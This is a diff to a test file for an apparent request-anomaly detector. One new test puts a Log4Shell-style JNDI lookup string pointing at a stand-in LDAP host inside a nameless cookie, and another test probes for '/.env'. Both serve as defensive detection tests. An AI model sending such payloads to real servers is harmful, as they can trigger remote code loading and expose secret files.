@@ -59,15 +59,24 @@ test('what never came in training does not reach 8 unless other sites would find
 test('a phrase that no ordinary request of a host has counts as at other sites', () => {
   const random = mulberry32(4)
   const word = () => Array.from({ length: 3 + Math.floor(random() * 10) }, () => 'abcdef.-_~/'[Math.floor(random() * 11)]).join('')
-  const varied = trainOn(ordinaryRequests(1000, 1).map(request => ({ ...request, uri: `/${word()}${request.uri}` }))).model
+  const varied = trainOn(ordinaryRequests(1100, 1).map(request => ({ ...request, uri: `/${word()}${request.uri}` }))).model
   const probe = fromBrowser('/.env')
-  assert.ok(scoreRequest(modelOf({ ...varied, hasPhrases: Uint8Array.of(1) }), probe).score < 3)
+  const byItself = scoreRequest(modelOf({ ...varied, hasPhrases: Uint8Array.of(1) }), probe).score
+  assert.ok(byItself < 5, String(byItself))
   const { score, capped, ceiling } = scoreRequest(modelOf(varied), probe)
   assert.ok(score > 6 && score <= 6.9, String(score))
   assert.deepEqual([capped, ceiling], [false, 10])
   assert.equal(explainRequest(modelOf(varied), probe)[0]?.feature, 'phrases that are hardly ever anything but an attack')
   // Where own traffic finds it stranger than other sites do, that holds.
   assert.ok(scoreRequest(model, fromBrowser(SHORT)).score > 8)
+})
+
+test('a phrase of attacks is found in a cookie without a name, and told by its shape', () => {
+  const headers = [...fromBrowser('/').headers, ['Cookie', `a=1; \${jndi:ldap://secret.example/a}`] as const]
+  const request = fromBrowser('/shop', { headers, site: 'other.example' })
+  assert.ok(scoreRequest(model, request).score > 6)
+  const reasons = explainRequest(model, request)
+  assert.ok(reasons.some(({ where, value }) => where === 'cookie without a name' && value.includes('{') && !value.includes('secret')))
 })
 
 test('less than usual counts as usual: an ordinary page with nothing else is ordinary', () => {
